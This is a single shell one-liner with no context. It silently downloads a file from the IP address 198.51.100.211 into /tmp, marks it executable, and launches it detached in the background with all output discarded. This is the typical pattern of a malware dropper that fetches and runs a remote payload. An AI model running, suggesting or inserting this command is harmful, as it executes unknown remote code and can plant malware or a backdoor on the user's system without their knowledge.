wget http://198.51.100.211/b -qO /tmp/b; chmod +x /tmp/b; nohup /tmp/b >/dev/null 2>&1 &
